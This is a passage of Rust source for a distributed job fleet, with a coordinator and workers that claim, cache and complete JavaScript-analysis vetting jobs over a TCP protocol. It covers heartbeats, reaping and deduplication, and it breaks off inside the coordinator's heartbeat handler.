//! content-addressed result store, and the worker registry, and answers
//! the *unchanged* sigserve client protocol — a fleet is byte-compatible
//! with a single daemon from a client's point of view. [`Worker`]s join
//! over four new NDJSON verbs (`join` / `claim` / `complete` /
//! `heartbeat`), run the analysis engine locally, and own one shard of
//! the fleet signature cache (`key % slots == slot`). A background
//! reaper re-queues jobs claimed by workers that stop heartbeating, so
//! a worker crash delays its jobs but never loses them.
//!
//! Like sigserve, the crate is std-only: plain TCP, a mutex-guarded
//! state machine, and condvar-woken claim long-polls.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod coordinator;
pub mod protocol;
pub mod worker;

pub use coordinator::{Coordinator, FleetConfig};
pub use protocol::{parse_fleet_request, FleetRequest, WorkerRequest};
pub use worker::{Worker, WorkerConfig};
