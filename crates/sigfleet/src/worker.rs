//! The worker side of the fleet: claim loops that pull jobs from a
//! coordinator, run the analysis engine, and post completions, plus a
//! heartbeat thread that keeps the worker off the reaper's list.
//!
//! Each worker owns one *shard* of the fleet's signature cache: the
//! coordinator assigns a `slot` at join time, and the worker caches
//! (and preferentially claims) only keys with `key % slots == slot`.
//! The coordinator's shared result store still covers every key; the
//! shard is the warm L1 in front of it.

use std::io;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use jsanalysis::AnalysisConfig;
use minijson::Json;
use sigobs::{EventLog, Level, LogTracer};
use sigserve::{Client, SigCache, VetOutcome};
use sigtrace::{MetricsRegistry, Trace};

use crate::protocol::{
    claim_request, complete_request, heartbeat_request, join_request, key_from_json,
};

/// Worker configuration. Timings (heartbeat cadence, reap horizon) are
/// coordinator-governed and arrive in the `join_ack`.
pub struct WorkerConfig {
    /// The coordinator's address (`host:port`).
    pub coordinator: String,
    /// Self-reported node name (shows up in fleet stats and logs).
    pub node: String,
    /// Number of claim loops (each with its own connection).
    pub threads: usize,
    /// Capacity of this node's cache shard (entries; 0 disables).
    pub cache_cap: usize,
    /// Long-poll duration per claim request.
    pub claim_wait_ms: u64,
    /// The analysis configuration the engine runs under. Must match the
    /// coordinator's, or shard keys and verdicts diverge.
    pub analysis: AnalysisConfig,
    /// When set, each claimed job runs the tiered vetting ladder locally
    /// (triage rung first, escalating on flows or budget exhaustion).
    /// The whole ladder runs inside one claim: same job id, one
    /// `complete`, so fleet dedup and the reaper see nothing new. Must
    /// match the coordinator's ladder, or shard keys diverge.
    pub ladder: Option<jsanalysis::LadderSpec>,
    /// Structured event log (job lifecycle events land here).
    pub log: Option<Arc<EventLog>>,
}

impl WorkerConfig {
    /// A worker pointed at `coordinator` with local-fleet defaults.
    pub fn new(coordinator: impl Into<String>) -> WorkerConfig {
        WorkerConfig {
            coordinator: coordinator.into(),
            node: "worker".to_owned(),
            threads: 2,
            cache_cap: 1024,
            claim_wait_ms: 500,
            analysis: AnalysisConfig::default(),
            ladder: None,
            log: None,
        }
    }
}

struct WorkerShared {
    coordinator: String,
    id: String,
    slot: usize,
    slots: usize,
    claim_wait_ms: u64,
    analysis: AnalysisConfig,
    ladder: Option<jsanalysis::LadderSpec>,
    shard: Mutex<SigCache>,
    metrics: MetricsRegistry,
    log: Option<Arc<EventLog>>,
    stop: Arc<AtomicBool>,
    engine: Box<sigserve::AnalyzeJobFn>,
}

impl WorkerShared {
    fn lock_shard(&self) -> MutexGuard<'_, SigCache> {
        self.shard.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn log_event(&self, level: Level, event: &str, fields: &[(&str, Json)]) {
        if let Some(log) = &self.log {
            log.log(level, event, fields);
        }
    }

    fn owns(&self, key: u64) -> bool {
        key as usize % self.slots == self.slot
    }
}

fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_owned()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_owned()
    }
}

/// Runs one claimed job: shard lookup, else compute (panic-contained),
/// then `complete`. Returns the line to send back to the coordinator.
fn run_job(shared: &WorkerShared, msg: &Json) -> Result<Json, String> {
    let job = msg
        .get("job")
        .and_then(Json::as_str)
        .ok_or("job message without id")?
        .to_owned();
    let key = key_from_json(msg, "key")?;
    let source = msg
        .get("source")
        .and_then(Json::as_str)
        .ok_or("job message without source")?;
    shared.log_event(
        Level::Info,
        "job_dequeued",
        &[("job", Json::from(job.as_str()))],
    );
    // The shard: only keys this worker owns live here, so a hit means
    // this node (or a predecessor on the same slot) computed the key.
    if shared.owns(key) {
        let cached = shared.lock_shard().get(key);
        if let Some((core, producer)) = cached {
            shared.metrics.add("worker_shard_hits", 1);
            shared.log_event(
                Level::Info,
                "cache_hit",
                &[
                    ("job", Json::from(job.as_str())),
                    ("producer", Json::from(producer)),
                ],
            );
            return Ok(complete_request(&shared.id, &job, true, &core));
        }
    }
    let t0 = Instant::now();
    // One rung of the engine, panic-contained: a crashing analysis
    // becomes an error verdict (terminal at any rung), never a lost job.
    let run_engine = |config: &AnalysisConfig| -> VetOutcome {
        match catch_unwind(AssertUnwindSafe(|| {
            let mut tracer = shared
                .log
                .as_ref()
                .filter(|l| l.enabled(Level::Debug))
                .map(|l| LogTracer::new(l, &job));
            let trace = match tracer.as_mut() {
                Some(t) => Trace::On(t),
                None => Trace::Off,
            };
            (shared.engine)(source, config, &shared.metrics, trace)
        })) {
            Ok(outcome) => outcome,
            Err(payload) => {
                let msg = panic_message(payload.as_ref());
                shared.metrics.add("worker_panics", 1);
                shared.log_event(
                    Level::Error,
                    "worker_panic",
                    &[
                        ("job", Json::from(job.as_str())),
                        ("message", Json::from(msg.as_str())),
                    ],
                );
                VetOutcome::error(format!("worker panicked: {msg}"))
            }
        }
    };
    // Ladder mode runs every rung inside this one claim — the
    // coordinator sees a single job id and a single `complete`, so
    // fleet-wide dedup, coalescing, and the reaper are untouched.
    // `run_ladder` owns the lifecycle log (per-attempt `job_computed`,
    // `job_escalated` between rungs, terminal postmortem), exactly like
    // the single-node daemon; cacheability is judged against the rung
    // that produced the terminal outcome.
    let (outcome, cache_cfg) = match &shared.ladder {
        Some(ladder) => {
            let run = sigserve::run_ladder(
                ladder,
                &shared.metrics,
                shared.log.as_deref(),
                &job,
                &mut |config| run_engine(config),
            );
            (run.outcome, &ladder.rungs[run.rung].config)
        }
        None => {
            let outcome = run_engine(&shared.analysis);
            // Same postmortem contract as the single-node daemon: the
            // cost profile rides right after `job_computed`, so a merged
            // fleet log replays with every timeout explainable (and
            // `vet trace-job` can attach hotspots to the timeline).
            if let Some(log) = &shared.log {
                sigserve::log_job_computed(log, &job, &outcome);
                sigserve::log_job_profile(log, &job, &outcome);
            }
            (outcome, &shared.analysis)
        }
    };
    shared.metrics.record(
        "worker_vet_us",
        t0.elapsed().as_micros().min(u128::from(u64::MAX)) as u64,
    );
    match &outcome {
        VetOutcome::Timeout { .. } => shared.metrics.add("worker_budget_aborts", 1),
        VetOutcome::Error { .. } => shared.metrics.add("worker_analysis_errors", 1),
        _ => {}
    }
    let core = outcome.core_json();
    let cacheable = outcome.cacheable(cache_cfg);
    if cacheable && shared.owns(key) {
        shared.lock_shard().insert(key, core.clone(), &job);
        shared.log_event(
            Level::Debug,
            "cache_insert",
            &[("job", Json::from(job.as_str()))],
        );
    }
    Ok(complete_request(&shared.id, &job, cacheable, &core))
}

fn claim_loop(shared: &WorkerShared) {
    let Ok(mut client) = Client::connect(shared.coordinator.as_str()) else {
        shared.stop.store(true, Ordering::SeqCst);
        return;
    };
    while !shared.stop.load(Ordering::SeqCst) {
        let claim = claim_request(&shared.id, shared.claim_wait_ms);
        let resp = match client.request(&claim) {
            Ok(r) => r,
            // Connection gone: the coordinator shut down or restarted.
            Err(_) => break,
        };
        match resp.get("kind").and_then(Json::as_str) {
            Some("no_job") => continue,
            Some("job") => {
                let complete = match run_job(shared, &resp) {
                    Ok(c) => c,
                    Err(e) => {
                        shared.log_event(
                            Level::Warn,
                            "protocol_error",
                            &[("error", Json::from(e.as_str()))],
                        );
                        continue;
                    }
                };
                match client.request(&complete) {
                    Ok(ack) => {
                        if matches!(ack.get("stale"), Some(Json::Bool(true))) {
                            shared.metrics.add("worker_stale_completes", 1);
                        }
                    }
                    Err(_) => break,
                }
            }
            // `fleet_shutdown`, an `error` (e.g. this worker was
            // reaped), or anything unrecognized: stop the whole worker.
            _ => break,
        }
    }
    shared.stop.store(true, Ordering::SeqCst);
}

fn heartbeat_loop(shared: &WorkerShared, mut client: Client, interval: Duration) {
    while !shared.stop.load(Ordering::SeqCst) {
        if client.request(&heartbeat_request(&shared.id)).is_err() {
            return;
        }
        // Sleep in small slices so stop() is prompt even with the
        // multi-second production cadence.
        let t0 = Instant::now();
        while t0.elapsed() < interval {
            if shared.stop.load(Ordering::SeqCst) {
                return;
            }
            std::thread::sleep(Duration::from_millis(25).min(interval));
        }
    }
}

/// A running fleet worker: `threads` claim loops plus a heartbeat
/// thread, all stopped by coordinator shutdown or [`Worker::stop`].
pub struct Worker {
    id: String,
    slot: usize,
    slots: usize,
    stop: Arc<AtomicBool>,
    handles: Vec<JoinHandle<()>>,
    shared: Arc<WorkerShared>,
}

impl Worker {
    /// Joins the fleet at `cfg.coordinator` and starts claiming.
    ///
    /// The engine receives a [`sigtrace::Trace`] carrying the owning
    /// job's coordinator-assigned ID (a [`LogTracer`] when the event
    /// log is at debug level), exactly like `sigserve`'s traced engine.
    pub fn join_fleet<F>(cfg: WorkerConfig, engine: F) -> io::Result<Worker>
    where
        F: for<'a> Fn(&str, &AnalysisConfig, &MetricsRegistry, Trace<'a>) -> VetOutcome
            + Send
            + Sync
            + 'static,
    {
        let mut client = Client::connect(cfg.coordinator.as_str())?;
        let ack = client
            .request(&join_request(&cfg.node))
            .map_err(|e| io::Error::new(io::ErrorKind::ConnectionRefused, e))?;
        let bad = |what: &str| io::Error::new(io::ErrorKind::InvalidData, format!("join_ack: {what}"));
        if ack.get("kind").and_then(Json::as_str) != Some("join_ack") {
            return Err(bad(&format!(
                "unexpected response {}",
                ack.to_string_compact()
            )));
        }
        let id = ack
            .get("worker")
            .and_then(Json::as_str)
            .ok_or_else(|| bad("missing worker"))?
            .to_owned();
        let slot = ack
            .get("slot")
            .and_then(Json::as_f64)
            .ok_or_else(|| bad("missing slot"))? as usize;
        let slots = ack
            .get("slots")
            .and_then(Json::as_f64)
            .filter(|s| *s >= 1.0)
            .ok_or_else(|| bad("missing slots"))? as usize;
        let heartbeat_ms = ack
            .get("heartbeat_ms")
            .and_then(Json::as_f64)
            .ok_or_else(|| bad("missing heartbeat_ms"))? as u64;
        let stop = Arc::new(AtomicBool::new(false));
        let shared = Arc::new(WorkerShared {
            coordinator: cfg.coordinator,
            id: id.clone(),
            slot,
            slots,
            claim_wait_ms: cfg.claim_wait_ms,
            analysis: cfg.analysis,
            ladder: cfg.ladder,
            shard: Mutex::new(SigCache::new(cfg.cache_cap)),
            metrics: MetricsRegistry::new(),
            log: cfg.log,
            stop: Arc::clone(&stop),
            engine: Box::new(engine),
        });
        shared.log_event(
            Level::Info,
            "worker_started",
            &[
                ("worker", Json::from(id.as_str())),
                ("node", Json::from(cfg.node.as_str())),
                ("slot", Json::from(slot as f64)),
                ("slots", Json::from(slots as f64)),
                ("threads", Json::from(cfg.threads.max(1) as f64)),
            ],
        );
        let mut handles = Vec::new();
        // The join connection becomes the heartbeat connection.
        {
            let shared = Arc::clone(&shared);
            let interval = Duration::from_millis(heartbeat_ms.max(1));
            handles.push(
                std::thread::Builder::new()
                    .name(format!("sigfleet-hb-{id}"))
                    .spawn(move || heartbeat_loop(&shared, client, interval))
                    .expect("spawn heartbeat thread"),
            );
        }
        for i in 0..cfg.threads.max(1) {
            let shared = Arc::clone(&shared);
            handles.push(
                std::thread::Builder::new()
                    .name(format!("sigfleet-claim-{id}-{i}"))
                    .spawn(move || claim_loop(&shared))
                    .expect("spawn claim thread"),
            );
        }
        Ok(Worker {
            id,
            slot,
            slots,
            stop,
            handles,
            shared,
        })
    }

    /// The coordinator-assigned worker ID (`w-<n>`).
    pub fn id(&self) -> &str {
        &self.id
    }

    /// This worker's cache-shard slot.
    pub fn slot(&self) -> usize {
        self.slot
    }

    /// The fleet's shard count.
    pub fn slots(&self) -> usize {
        self.slots
    }

    /// Asks the claim loops and heartbeat to stop after their current
    /// request. In-flight analyses still complete and post back.
    pub fn stop(&self) {
        self.stop.store(true, Ordering::SeqCst);
    }

    /// A snapshot of the worker-local metrics registry.
    pub fn metrics_snapshot(&self) -> sigtrace::MetricsSnapshot {
        self.shared.metrics.snapshot()
    }

    /// Waits for every thread. Returns when the coordinator shut the
    /// fleet down, the connection dropped, or after [`Worker::stop`].
    pub fn join(self) {
        for h in self.handles {
            let _ = h.join();
        }
        if let Some(log) = &self.shared.log {
            log.flush();
        }
    }
}
