//! The fleet coordinator: one process that owns the job queue, the
//! shared content-addressed result store, and the worker registry, and
//! speaks both protocol dialects on one port.
//!
//! Jobs move through a small state machine:
//!
//! ```text
//! submitted --(store hit)--------------------> answered   (cached:true)
//! submitted --(key already in flight)--------> coalesced  (waits on owner)
//! submitted --(queue full / shutting down)---> rejected
//! submitted -> pending --claim--> claimed --complete--> answered
//!                 ^                   |
//!                 +----- requeued ----+   (worker missed heartbeats)
//! ```
//!
//! The coordinator never runs an analysis itself; workers claim jobs,
//! compute, and post `complete`. A background reaper removes workers
//! whose `last_seen` (any verb refreshes it) is older than `reap_after`
//! and pushes their claimed-but-incomplete jobs back to the *front* of
//! the queue, so a worker crash delays its jobs but never loses them.

use std::collections::{BTreeMap, HashMap, VecDeque};
use std::io::{self, BufRead, BufReader, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{mpsc, Arc, Condvar, Mutex, MutexGuard, PoisonError};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use jsanalysis::AnalysisConfig;
use minijson::Json;
use sigobs::{EventLog, Level};
use sigserve::protocol::{
    error_response, metrics_response, overloaded_response, vet_response,
};
use sigserve::{cache_key, metrics_json, Request, SigCache, Source, VetItem};
use sigtrace::{MetricsRegistry, MetricsSnapshot};

use crate::protocol::{
    complete_ack, fleet_shutdown, heartbeat_ack, job_message, join_ack, no_job,
    parse_fleet_request, FleetRequest, WorkerRequest,
};

/// Coordinator configuration. `Default` gives local-fleet-friendly
/// values; production deployments mostly tune the timings.
pub struct FleetConfig {
    /// Maximum unclaimed jobs before submissions shed as `overloaded`.
    pub queue_cap: usize,
    /// Capacity of the shared result store (entries; 0 disables).
    pub result_cap: usize,
    /// Number of cache shards; a key's owner is `key % slots`.
    pub slots: usize,
    /// The analysis configuration whose canonical string keys the store.
    /// Workers are expected to run the same one.
    pub analysis: AnalysisConfig,
    /// When set, the fleet runs the tiered vetting ladder: the store is
    /// keyed by the *ladder's* canonical string (so single-tier results
    /// can never be served to ladder requests or vice versa), and
    /// workers are expected to run the same ladder. Escalation happens
    /// inside the worker's claim — one job id, one `complete` — so
    /// dedup, coalescing, and the reaper are untouched.
    pub ladder: Option<jsanalysis::LadderSpec>,
    /// How often workers must heartbeat (sent to them in `join_ack`).
    pub heartbeat: Duration,
    /// Reap a worker whose `last_seen` is older than this.
    pub reap_after: Duration,
    /// Structured event log (fleet lifecycle events land here).
    pub log: Option<Arc<EventLog>>,
    /// When set, append merged metrics snapshots to this on-disk ring.
    pub metrics_dir: Option<PathBuf>,
    /// Snapshot interval for `metrics_dir`.
    pub metrics_interval: Duration,
    /// Ring capacity for `metrics_dir`.
    pub metrics_history_cap: u64,
}

impl Default for FleetConfig {
    fn default() -> FleetConfig {
        FleetConfig {
            queue_cap: 256,
            result_cap: 4096,
            slots: 8,
            analysis: AnalysisConfig::default(),
            ladder: None,
            heartbeat: Duration::from_millis(2000),
            reap_after: Duration::from_millis(6000),
            log: None,
            metrics_dir: None,
            metrics_interval: Duration::from_secs(5),
            metrics_history_cap: 512,
        }
    }
}

/// One job the fleet owns (pending or claimed).
struct FleetJob {
    key: u64,
    name: Option<String>,
    source: String,
    /// Every submission waiting on this content: the original plus any
    /// coalesced duplicates. Each gets the core result on completion.
    waiters: Vec<mpsc::Sender<Json>>,
    enqueued: Instant,
    claimed_by: Option<String>,
}

struct WorkerEntry {
    node: String,
    slot: usize,
    last_seen: Instant,
    claimed: Vec<String>,
}

#[derive(Default)]
struct FleetState {
    /// Unclaimed job IDs, oldest first (requeues go to the front).
    pending: VecDeque<String>,
    jobs: HashMap<String, FleetJob>,
    /// In-flight dedup: content key -> owning job ID.
    by_key: HashMap<u64, String>,
    workers: BTreeMap<String, WorkerEntry>,
    shutting: bool,
}

struct Shared {
    queue_cap: usize,
    slots: usize,
    heartbeat: Duration,
    reap_after: Duration,
    config_canon: String,
    state: Mutex<FleetState>,
    /// Notified on enqueue, requeue, and shutdown; claims wait on it.
    jobs_cv: Condvar,
    store: Mutex<SigCache>,
    metrics: MetricsRegistry,
    log: Option<Arc<EventLog>>,
    job_seq: AtomicU64,
    worker_seq: AtomicU64,
    shutting_down: AtomicBool,
    addr: Option<SocketAddr>,
    metrics_dir: Option<PathBuf>,
    metrics_interval: Duration,
    metrics_history_cap: u64,
}

impl Shared {
    fn new(cfg: FleetConfig, addr: Option<SocketAddr>) -> Shared {
        Shared {
            queue_cap: cfg.queue_cap,
            slots: cfg.slots.max(1),
            heartbeat: cfg.heartbeat,
            reap_after: cfg.reap_after,
            config_canon: match &cfg.ladder {
                Some(ladder) => ladder.canonical_string(),
                None => cfg.analysis.canonical_string(),
            },
            state: Mutex::new(FleetState::default()),
            jobs_cv: Condvar::new(),
            store: Mutex::new(SigCache::new(cfg.result_cap)),
            metrics: MetricsRegistry::new(),
            log: cfg.log,
            job_seq: AtomicU64::new(0),
            worker_seq: AtomicU64::new(0),
            shutting_down: AtomicBool::new(false),
            addr,
            metrics_dir: cfg.metrics_dir,
            metrics_interval: cfg.metrics_interval,
            metrics_history_cap: cfg.metrics_history_cap,
        }
    }

    fn lock_state(&self) -> MutexGuard<'_, FleetState> {
        // Recover, don't propagate: same crash-cascade rationale as the
        // sigserve cache lock.
        self.state.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn lock_store(&self) -> MutexGuard<'_, SigCache> {
        self.store.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn next_job_id(&self) -> String {
        format!("j-{}", self.job_seq.fetch_add(1, Ordering::Relaxed))
    }

    fn log_event(&self, level: Level, event: &str, fields: &[(&str, Json)]) {
        if let Some(log) = &self.log {
            log.log(level, event, fields);
        }
    }

    fn counter(&self, name: &str) -> u64 {
        self.metrics.counter(name).load(Ordering::Relaxed)
    }

    fn set_alive(&self, n: usize) {
        self.metrics
            .counter("fleet_workers_alive")
            .store(n as u64, Ordering::Relaxed);
    }

    /// The registry snapshot plus fleet occupancy and result-store
    /// counters, under `fleet_`-prefixed names — what `metrics`
    /// responses and the on-disk history both render.
    fn merged_snapshot(&self) -> MetricsSnapshot {
        let mut snap = self.metrics.snapshot();
        let (pending, claimed) = {
            let st = self.lock_state();
            let claimed = st.jobs.values().filter(|j| j.claimed_by.is_some()).count();
            (st.pending.len(), claimed)
        };
        let store = self.lock_store().counters();
        let extra = [
            ("fleet_pending_jobs", pending as u64),
            ("fleet_claimed_jobs", claimed as u64),
            ("fleet_store_hits", store.hits),
            ("fleet_store_misses", store.misses),
            ("fleet_store_entries", store.entries),
            ("fleet_store_evictions", store.evictions),
        ];
        for (name, v) in extra {
            snap.counters.push((name.to_owned(), v));
        }
        snap.counters.sort();
        snap
    }

    fn stats_body(&self) -> Json {
        let store = self.lock_store().counters();
        let mut body = Json::obj();
        {
            let st = self.lock_state();
            let claimed = st.jobs.values().filter(|j| j.claimed_by.is_some()).count();
            let mut fleet = Json::obj();
            fleet.set("workers_alive", Json::from(st.workers.len() as f64));
            fleet.set("pending", Json::from(st.pending.len() as f64));
            fleet.set("claimed", Json::from(claimed as f64));
            fleet.set("queue_cap", Json::from(self.queue_cap as f64));
            fleet.set("slots", Json::from(self.slots as f64));
            fleet.set(
                "jobs_accepted",
                Json::from(self.counter("fleet_jobs_accepted") as f64),
            );
            fleet.set(
                "jobs_completed",
                Json::from(self.counter("fleet_jobs_completed") as f64),
            );
            fleet.set(
                "jobs_requeued",
                Json::from(self.counter("fleet_jobs_requeued") as f64),
            );
            fleet.set(
                "jobs_rejected",
                Json::from(self.counter("fleet_jobs_rejected") as f64),
            );
            fleet.set(
                "dedup_hits",
                Json::from(self.counter("fleet_dedup_hits") as f64),
            );
            fleet.set(
                "workers_reaped",
                Json::from(self.counter("fleet_workers_reaped") as f64),
            );
            body.set("fleet", fleet);
            let mut workers = Vec::new();
            for (id, w) in &st.workers {
                let mut o = Json::obj();
                o.set("worker", Json::from(id.as_str()));
                o.set("node", Json::from(w.node.as_str()));
                o.set("slot", Json::from(w.slot as f64));
                o.set("claimed", Json::from(w.claimed.len() as f64));
                o.set(
                    "idle_ms",
                    Json::from(w.last_seen.elapsed().as_millis() as f64),
                );
                workers.push(o);
            }
            body.set("workers", Json::Arr(workers));
        }
        let mut cache = Json::obj();
        cache.set("hits", Json::from(store.hits as f64));
        cache.set("misses", Json::from(store.misses as f64));
        cache.set("evictions", Json::from(store.evictions as f64));
        cache.set("entries", Json::from(store.entries as f64));
        cache.set("capacity", Json::from(store.capacity as f64));
        body.set("cache", cache);
        body.set("metrics", metrics_json(&self.metrics.snapshot()));
        if let Some(log) = &self.log {
            body.set("log_tail", Json::Arr(log.tail()));
        }
        body
    }
}

/// A submitted-but-not-yet-answered vet item (mirrors sigserve's
/// `PendingVet` so batches pipeline across the whole fleet).
enum Pending {
    Ready(Json),
    Waiting {
        id: String,
        name: Option<String>,
        rx: mpsc::Receiver<Json>,
        t0: Instant,
    },
}

fn submit_vet(shared: &Shared, item: VetItem) -> Pending {
    let t0 = Instant::now();
    let (name, source) = match item.source {
        Source::Inline(s) => (item.name, s),
        Source::Path(p) => match std::fs::read_to_string(&p) {
            Ok(s) => (item.name.or(Some(p)), s),
            Err(e) => {
                shared.log_event(
                    Level::Warn,
                    "vet_path_error",
                    &[
                        ("path", Json::from(p.as_str())),
                        ("error", Json::from(format!("{e}"))),
                    ],
                );
                let mut core = Json::obj();
                core.set("verdict", Json::from("error"));
                core.set("message", Json::from(format!("{p}: {e}")));
                return Pending::Ready(vet_response(
                    &core,
                    item.name.as_deref().or(Some(&p)),
                    None,
                    false,
                    t0.elapsed().as_micros(),
                ));
            }
        },
    };
    let id = shared.next_job_id();
    let key = cache_key(&source, &shared.config_canon);
    // 1. The shared result store: any node's past computation answers.
    if let Some((core, producer)) = shared.lock_store().get(key) {
        shared.log_event(
            Level::Info,
            "cache_hit",
            &[
                ("job", Json::from(id.as_str())),
                ("name", name.as_deref().map(Json::from).unwrap_or(Json::Null)),
                ("producer", Json::from(producer)),
            ],
        );
        let micros = t0.elapsed().as_micros();
        let resp = vet_response(&core, name.as_deref(), Some(&id), true, micros);
        shared.log_event(
            Level::Info,
            "job_done",
            &[
                ("job", Json::from(id.as_str())),
                ("micros", Json::from(micros as f64)),
                ("cached", Json::Bool(true)),
            ],
        );
        return Pending::Ready(resp);
    }
    let mut st = shared.lock_state();
    if st.shutting {
        shared.metrics.add("fleet_jobs_rejected", 1);
        shared.log_event(
            Level::Warn,
            "job_rejected",
            &[
                ("job", Json::from(id.as_str())),
                ("reason", Json::from("shutting_down")),
            ],
        );
        return Pending::Ready(error_response("fleet is shutting down"));
    }
    // 2. Fleet-wide in-flight dedup: identical concurrent submissions
    // (possibly from different client connections) resolve to the one
    // analysis already owned by `owner`.
    if let Some(owner) = st.by_key.get(&key).cloned() {
        shared.metrics.add("fleet_dedup_hits", 1);
        shared.log_event(
            Level::Info,
            "job_coalesced",
            &[
                ("job", Json::from(id.as_str())),
                ("producer", Json::from(owner.as_str())),
            ],
        );
        let (tx, rx) = mpsc::channel();
        if let Some(job) = st.jobs.get_mut(&owner) {
            job.waiters.push(tx);
        }
        return Pending::Waiting { id, name, rx, t0 };
    }
    // 3. Backpressure: shed before logging the lifecycle (same
    // log-amplification rationale as sigserve).
    if st.pending.len() >= shared.queue_cap {
        shared.metrics.add("fleet_jobs_rejected", 1);
        shared.log_event(
            Level::Warn,
            "job_rejected",
            &[
                ("job", Json::from(id.as_str())),
                ("reason", Json::from("overloaded")),
            ],
        );
        return Pending::Ready(overloaded_response(
            name.as_deref(),
            st.pending.len(),
            shared.queue_cap,
        ));
    }
    // 4. Admission.
    shared.metrics.add("fleet_jobs_accepted", 1);
    shared
        .metrics
        .record("fleet_queue_depth", st.pending.len() as u64);
    shared.log_event(
        Level::Info,
        "job_enqueued",
        &[
            ("job", Json::from(id.as_str())),
            ("name", name.as_deref().map(Json::from).unwrap_or(Json::Null)),
            ("queue_depth", Json::from(st.pending.len() as f64)),
        ],
    );
    let (tx, rx) = mpsc::channel();
    st.jobs.insert(
        id.clone(),
        FleetJob {
            key,
            name: name.clone(),
            source,
            waiters: vec![tx],
            enqueued: Instant::now(),
            claimed_by: None,
        },
    );
    st.by_key.insert(key, id.clone());
    st.pending.push_back(id.clone());
    drop(st);
    shared.jobs_cv.notify_all();
    Pending::Waiting { id, name, rx, t0 }
}

fn await_vet(shared: &Shared, pending: Pending) -> Json {
    match pending {
        Pending::Ready(resp) => resp,
        Pending::Waiting { id, name, rx, t0 } => match rx.recv() {
            // A shed-at-shutdown marker, not a result: the job's
            // lifecycle ended at `job_rejected`, so no `job_done` here.
            Ok(core) if core.get("__shed").is_some() => {
                error_response("fleet is shutting down")
            }
            Ok(core) => {
                let micros = t0.elapsed().as_micros();
                let resp = vet_response(&core, name.as_deref(), Some(&id), false, micros);
                shared.log_event(
                    Level::Info,
                    "job_done",
                    &[
                        ("job", Json::from(id.as_str())),
                        ("micros", Json::from(micros as f64)),
                        ("cached", Json::Bool(false)),
                    ],
                );
                resp
            }
            Err(_) => error_response("fleet shut down before the job finished"),
        },
    }
}

fn handle_join(shared: &Shared, node: &str) -> Json {
    let n = shared.worker_seq.fetch_add(1, Ordering::Relaxed);
    let id = format!("w-{n}");
    let slot = (n as usize) % shared.slots;
    let mut st = shared.lock_state();
    st.workers.insert(
        id.clone(),
        WorkerEntry {
            node: node.to_owned(),
            slot,
            last_seen: Instant::now(),
            claimed: Vec::new(),
        },
    );
    let alive = st.workers.len();
    drop(st);
    shared.set_alive(alive);
    shared.metrics.add("fleet_workers_joined", 1);
    shared.log_event(
        Level::Info,
        "worker_joined",
        &[
            ("worker", Json::from(id.as_str())),
            ("node", Json::from(node)),
            ("slot", Json::from(slot as f64)),
        ],
    );
    join_ack(
        &id,
        slot,
        shared.slots,
        shared.heartbeat.as_millis() as u64,
        shared.reap_after.as_millis() as u64,
    )
}

fn handle_claim(shared: &Shared, worker: &str, wait_ms: u64) -> Json {
    let deadline = Instant::now() + Duration::from_millis(wait_ms);
    let mut st = shared.lock_state();
    loop {
        if st.shutting {
            return fleet_shutdown();
        }
        let slot = match st.workers.get_mut(worker) {
            None => return error_response("unknown worker (reaped or never joined)"),
            Some(w) => {
                w.last_seen = Instant::now();
                w.slot
            }
        };
        // Prefer a job this worker's cache shard owns (`key % slots ==
        // slot`) so shard locality pays off; otherwise take the oldest.
        let pick = st
            .pending
            .iter()
            .position(|id| st.jobs.get(id).is_some_and(|j| j.key as usize % shared.slots == slot))
            .or(if st.pending.is_empty() { None } else { Some(0) });
        if let Some(pos) = pick {
            let id = st.pending.remove(pos).expect("position in range");
            let job = st.jobs.get_mut(&id).expect("pending job exists");
            job.claimed_by = Some(worker.to_owned());
            let wait_us = job.enqueued.elapsed().as_micros().min(u128::from(u64::MAX)) as u64;
            let msg = job_message(&id, job.key, job.name.as_deref(), &job.source);
            if let Some(w) = st.workers.get_mut(worker) {
                w.claimed.push(id.clone());
            }
            drop(st);
            shared.metrics.record("fleet_claim_wait_us", wait_us);
            shared.metrics.add("fleet_jobs_claimed", 1);
            shared.log_event(
                Level::Info,
                "job_claimed",
                &[
                    ("job", Json::from(id.as_str())),
                    ("worker", Json::from(worker)),
                ],
            );
            return msg;
        }
        let now = Instant::now();
        if now >= deadline {
            return no_job();
        }
        let (guard, _timeout) = shared
            .jobs_cv
            .wait_timeout(st, deadline - now)
            .unwrap_or_else(PoisonError::into_inner);
        st = guard;
    }
}

fn handle_complete(shared: &Shared, worker: &str, job_id: &str, cacheable: bool, core: Json) -> Json {
    let mut st = shared.lock_state();
    if let Some(w) = st.workers.get_mut(worker) {
        w.last_seen = Instant::now();
    }
    let fresh = st
        .jobs
        .get(job_id)
        .is_some_and(|j| j.claimed_by.as_deref() == Some(worker));
    if !fresh {
        // The job was reaped and reassigned (or already answered by the
        // new owner): the result is dropped, the worker moves on.
        drop(st);
        shared.metrics.add("fleet_stale_completes", 1);
        shared.log_event(
            Level::Debug,
            "stale_complete",
            &[
                ("job", Json::from(job_id)),
                ("worker", Json::from(worker)),
            ],
        );
        return complete_ack(true);
    }
    let job = st.jobs.remove(job_id).expect("checked above");
    st.by_key.remove(&job.key);
    if let Some(w) = st.workers.get_mut(worker) {
        w.claimed.retain(|j| j != job_id);
    }
    drop(st);
    if cacheable {
        shared.lock_store().insert(job.key, core.clone(), job_id);
        shared.log_event(Level::Debug, "cache_insert", &[("job", Json::from(job_id))]);
    }
    shared.metrics.add("fleet_jobs_completed", 1);
    for tx in &job.waiters {
        // A vanished submitter is fine; the result may be stored anyway.
        let _ = tx.send(core.clone());
    }
    complete_ack(false)
}

fn handle_heartbeat(shared: &Shared, worker: &str) -> Json {
    let mut st = shared.lock_state();
    if let Some(w) = st.workers.get_mut(worker) {
